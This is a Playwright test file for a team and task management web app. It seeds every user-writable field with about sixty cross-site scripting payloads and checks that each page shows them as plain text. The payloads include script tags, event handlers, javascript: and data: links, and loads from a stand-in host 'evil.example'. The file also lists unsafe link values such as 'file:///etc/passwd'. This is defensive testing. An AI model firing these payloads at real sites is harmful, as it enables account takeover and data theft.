import type { Page } from '@playwright/test'
import { store } from './guard-support.ts'
import {
  BASE,
  choose,
  confirmAddress,
  expect,
  LANGUAGES,
  type Language,
  login,
  mailTo,
  PASSWORD,
  register,
  send,
  settle,
  test,
} from './support.ts'
import { WORDS } from './translations.ts'

/**
 * Each text sets `__ran`, opens a dialog or requests another site if it is treated as more than
 * text.
 */
const HOSTILE = [
  // Script tags, alone and breaking out of their context.
  '<script>__ran=1</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<script type=module>__ran=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<scr<script>ipt>__ran=1</scr</script>ipt>',
  '</title><script>__ran=1</script>',
  '</script><script>__ran=1</script>',
  '</textarea><script>__ran=1</script>',
  '"><script>__ran=1</script>',
  "'><script>alert(1)</script>",
  '--><script>__ran=1</script><!--',
  ']]><script>__ran=1</script>',
  // Event handlers.
  '<img src=x onerror=__ran=1>',
  '<img src="x" onerror="alert(1)">',
  '<img/src=x/onerror=__ran=1>',
  '<body onload=__ran=1>',
  '<details open ontoggle=__ran=1>x</details>',
  '<input autofocus onfocus=__ran=1>',
  '<select autofocus onfocus=__ran=1>',
  '<video><source onerror=__ran=1></video>',
  '<audio src=x onerror=__ran=1>',
  '<marquee onstart=__ran=1>x</marquee>',
  '<div style=animation:x onanimationstart=__ran=1>',
  '<iframe onload=__ran=1></iframe>',
  '" onmouseover="__ran=1" x="',
  "' autofocus onfocus='__ran=1",
  // Addresses that run code or lead elsewhere.
  'javascript:__ran=1',
  'JaVaScRiPt:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>parent.__ran=1</script>',
  '<a href=javascript:__ran=1>x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<iframe src=javascript:parent.__ran=1></iframe>',
  '<form action=javascript:__ran=1><button>x</form>',
  '<object data=data:text/html,<script>__ran=1</script>>',
  '<embed src=//evil.example/x.swf>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  // SVG and MathML.
  '<svg onload=__ran=1>',
  '<svg><script>__ran=1</script></svg>',
  '<svg><animate onbegin=__ran=1 attributeName=x>',
  '<svg><use href=//evil.example/x.svg#a></svg>',
  '<math><mi xlink:href=javascript:__ran=1>x</mi></math>',
  // Styles.
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '<p style="background:url(//evil.example/y)">x</p>',
  '"style="position:fixed;inset:0;background:red',
  // Templates, entities and replacement patterns.
  "{{constructor.constructor('__ran=1')()}}",
  '\u0024{__ran=1} #{__ran=1} <%= __ran=1 %>',
  '$t(common:close) {{name}} {{count}} $& $1',
  '&lt;script&gt;__ran=1&lt;/script&gt;',
  '&#60;img src=x onerror=__ran=1&#62;',
  // Invisible and look-alike characters; direction marks are in DIRECTED.
  '\u2060<script>__ran=1</script>',
  '\u00ad<b onclick=__ran=1>x</b>',
  '<\u200bscript>__ran=1</script>',
  '\uff1cscript\uff1e__ran=1\uff1c/script\uff1e',
  '\\u003cscript\\u003e__ran=1\\u003c/script\\u003e',
  // Markup that parses to another tree when it is parsed twice.
  '<svg><style><img src=x onerror=__ran=1></style></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert()>',
  '<math><mtext><table><mglyph><style><img onerror=__ran=1>',
] as const
const at = (index: number): string => HOSTILE[index % HOSTILE.length] as string

/** Names must not contain direction marks, but free texts can. */
const DIRECTED = ['\u202e<script>__ran=1</script>', '\u2067\u2066<b onclick=__ran=1>x</b>'] as const
/** Allowed names of a person: mails contain them, so they must not include a web address. */
const NAMES = HOSTILE.filter((text) => !/:\/\/|\w\.[a-z]{2,}\//i.test(text))
const nameAt = (index: number): string => NAMES[index % NAMES.length] as string

const UNSAFE_LINKS = [
  ...['javascript:__ran=1', 'JaVaScRiPt:__ran=1', 'java\tscript:__ran=1', '\u0001javascript:x'],
  ...['data:text/html,<script>__ran=1</script>', 'vbscript:x', 'file:///etc/passwd', '//evil.x'],
]
const MEMBERS = 20
const NEXT_YEAR = String(new Date().getFullYear() + 1)
/** Holidays on the first days of next year, one per text. */
const HOLIDAYS = HOSTILE.map((name, index) => ({
  date: new Date(Date.UTC(Number(NEXT_YEAR), 0, index + 1)).toISOString().slice(0, 10),
  name,
}))
const COMPANY = [at(5), at(12), at(49)].join(' ')

interface Stage {
  token: string
  userId: string
  companySlug: string
  role: string
  department: string
  member: string
}

type Made = Record<string, { id: string; user_id?: string }>

/** Creates a record and returns its id. */
async function make(token: string, call: `POST /${string}`, body: object): Promise<string> {
  const { status, reply } = await send<Made>(token, call, body)
  expect(status, JSON.stringify(body)).toBe(201)
  return Object.values(reply)[0]?.id ?? ''
}

async function fillProfile(token: string, email: string): Promise<void> {
  const profile = { city: at(0), country: at(12), state: at(38), position: at(47) }
  const body = { name: at(13), last_name: at(51), email, profile, phones: [] }
  for (const link of UNSAFE_LINKS) {
    const links = [{ icon: 'link', link }]
    expect((await send(token, 'PUT /userProfile', { ...body, links })).status, link).toBe(422)
  }
  const links = HOSTILE.slice(0, 30).map((one) => ({
    icon: one.slice(0, 30),
    link: `https://example.com/${one.replaceAll(' ', '/')}`,
  }))
  expect((await send(token, 'PUT /userProfile', { ...body, links })).status).toBe(200)
}

/** Invites people with hostile names; the first of them joins under such a name. */
async function fillTeam(token: string, roles: string[], departments: string[]): Promise<void> {
  const run = `${process.pid}-${Date.now()}`
  for (let index = 0; index < MEMBERS; index += 1)
    await make(token, 'POST /invite', {
      email: `hostile-${index}-${run}@example.com`,
      ...{ name: nameAt(index * 3), last_name: nameAt(index * 3 + 1) },
      position: at(index * 3 + 2),
      role_ids: [roles[index * 2]],
      department_ids: departments.slice(index * 3, index * 3 + 3),
    })
  const { links, html } = await mailTo(`hostile-0-${run}@example.com`)
  expect(html).not.toMatch(/<script|<img[^>]+onerror/i)
  const { status } = await send('', 'POST /registerViaInvitation', {
    token: new URL(links[0] ?? '').searchParams.get('token'),
    ...{ name: at(0), last_name: at(1), password: PASSWORD, password_confirmation: PASSWORD },
  })
  expect(status).toBe(201)
}

/** A company in which every text that a user can write is hostile. */
async function build(): Promise<Stage> {
  const email = await register('Fayrouz', 'en')
  const { token, user } = await login(email)
  await confirmAddress(email)
  const roles: string[] = []
  const departments: string[] = []
  for (const [index, name] of HOSTILE.entries()) {
    const permissions = index < MEMBERS * 2 ? ['view-department', 'view-user'] : []
    roles.push(await make(token, 'POST /roles', { name, permissions }))
    const members = index % 10 === 0 ? { manager_id: user.id, member_ids: [user.id] } : {}
    const described = { name, description: at(index + 1), ...members }
    const dept_id = await make(token, 'POST /departments', described)
    departments.push(dept_id)
    const task = { task_name: name, description: at(index + 2), dept_id, task_type: 'daily' }
    const id = await make(token, 'POST /dailytask', {
      ...task,
      start_date: '2026-01-01',
    })
    if (index % 2 === 0)
      await send(token, `POST /daily-tasks/${id}/submit-report`, {
        ...{ status: 'not_done', note: DIRECTED[index / 2] ?? at(index + 3) },
      })
  }
  await fillTeam(token, roles, departments)
  await fillProfile(token, email)
  for (const name of [at(30), COMPANY])
    expect((await send(token, 'PUT /company-data', { name, holidays: HOLIDAYS })).status).toBe(200)
  const team = await send<{ users: { id: string; status: string; is_owner: boolean }[] }>(
    ...([token, 'GET /company-users'] as const),
  )
  const member = team.reply.users.find((one) => one.status === 'active' && !one.is_owner)
  const renamed = await send<{ data: { slug: string } }>(token, 'GET /company-data')
  return {
    ...{ token, userId: user.id, companySlug: renamed.reply.data.slug },
    ...{ role: roles[0] ?? '', department: departments[10] ?? '', member: member?.id ?? '' },
  }
}

let stage: Promise<Stage> | undefined

interface Visit {
  paths: string[]
  /** The actions that make all texts visible. */
  open?: (page: Page) => Promise<unknown>
  shows: readonly string[]
}

function visits({ role, department, member }: Stage, locale: Language): Visit[] {
  const { dashboard, lists, settings } = WORDS[locale]
  // The first member joined under another name; the others have names that mails may contain.
  const pairs = Array.from({ length: MEMBERS }, (_, index) => index * 3).flatMap((index) => [
    index === 0 ? `${at(0)} ${at(1)}` : `${nameAt(index)} ${nameAt(index + 1)}`,
    at(index + 2),
  ])
  const named = pairs.filter((_, index) => index % 2 === 0)
  return [
    { paths: ['team'], shows: pairs },
    { paths: ['addUser', 'addUser?page=2'], shows: named.slice(1) },
    { paths: [`add-role&permissions?role=${role}`], shows: HOSTILE },
    {
      paths: [`add-role&permissions?view=people&person=${member}`],
      shows: [`${at(0)} ${at(1)}`, at(0)],
    },
    { paths: ['department', `department?department=${department}`], shows: HOSTILE },
    { paths: ['profile'], shows: [at(0), at(12), at(13), at(38), at(47), at(51)] },
    {
      paths: ['company-settings'],
      open: (page) =>
        page.getByLabel(settings.year, { exact: true }).first().selectOption(NEXT_YEAR),
      shows: [COMPANY, ...HOSTILE],
    },
    {
      paths: ['dashboard-default'],
      open: async (page) => {
        const byDepartment = page.getByRole('region', { name: dashboard.progressTitle })
        await byDepartment.scrollIntoViewIfNeeded()
        await byDepartment.getByRole('button', { name: lists.showTable }).click()
        await expect(byDepartment.getByRole('table')).toBeVisible()
      },
      shows: HOSTILE,
    },
    { paths: ['morning-brief'], shows: [] },
    { paths: ['routine-task'], open: nearSelects, shows: HOSTILE },
  ]
}

/** Opens the filters and focuses the selects, since long option lists render only then. */
async function nearSelects(page: Page): Promise<void> {
  const filters = page.locator('search button[aria-expanded=false]:visible')
  for (const button of await filters.all()) await button.click()
  for (const select of await page.locator('select:visible').all()) await select.focus()
}

/** All text that a user can read on the page, including fields and list boxes. */
const textOf = (page: Page) =>
  page.evaluate(() => {
    const fields = document.querySelectorAll<HTMLInputElement>('input, textarea')
    return [document.body.textContent, ...[...fields].map(({ value }) => value)].join('\n')
  })

/** Short descriptions of hostile texts that became elements or ran. */
const brokenOut = (page: Page) =>
  page.evaluate(() => {
    const isSafe = (href: string) => /^(https?|mailto|tel):/.test(href)
    const all = [...document.body.querySelectorAll('*')]
    const foreign = all.filter(
      (one) =>
        one.getAttributeNames().some((name) => name.startsWith('on')) ||
        one.matches('main :is(script, style, iframe, object, embed, base, meta, marquee, math)') ||
        (one instanceof HTMLAnchorElement && !isSafe(one.href)),
    )
    const ran = '__ran' in window ? ['a script ran'] : []
    return [...ran, ...foreign.map((one) => one.outerHTML.slice(0, 120))]
  })

for (const locale of LANGUAGES)
  test(`hostile texts are texts on every page of people and settings, ${locale}`, async ({
    page,
    context,
  }) => {
    expect(new Set(HOSTILE).size).toBe(60)
    stage ??= build()
    const staged = await stage
    const { token, userId, companySlug } = staged
    await choose(context, { locale })
    await store(context, { token, userId, companySlug })
    const outside: string[] = []
    page.on('dialog', (dialog) => {
      outside.push(`a dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    page.on('request', (request) => {
      if (!/^(data|blob):/.test(request.url()) && new URL(request.url()).origin !== BASE)
        outside.push(request.url())
    })
    for (const { paths, open, shows } of visits(staged, locale)) {
      let read = ''
      for (const path of paths) {
        await page.goto(`/${encodeURIComponent(companySlug)}/${path}`)
        await expect(page.locator('main h1').first(), path).toBeAttached()
        await settle(page)
        await open?.(page)
        read += await textOf(page)
        expect(await brokenOut(page), path).toEqual([])
        await expect(page, path).toHaveTitle(COMPANY)
      }
      expect(
        shows.filter((text) => !read.includes(text)),
        paths[0],
      ).toEqual([])
    }
    expect(outside).toEqual([])
  })
